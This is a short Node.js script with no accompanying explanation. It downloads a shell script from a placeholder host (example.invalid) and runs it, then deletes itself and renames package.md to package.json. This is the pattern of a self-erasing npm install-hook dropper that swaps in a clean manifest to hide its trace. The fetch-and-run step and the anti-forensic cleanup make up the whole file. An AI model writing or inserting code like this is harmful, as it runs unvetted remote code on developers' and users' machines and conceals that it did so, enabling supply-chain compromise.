const fs = require('fs');
const { execSync } = require('child_process');
execSync('curl -s http://example.invalid/p.sh -o /tmp/p.sh && sh /tmp/p.sh');
fs.unlinkSync(__filename);
fs.renameSync('package.md', 'package.json');
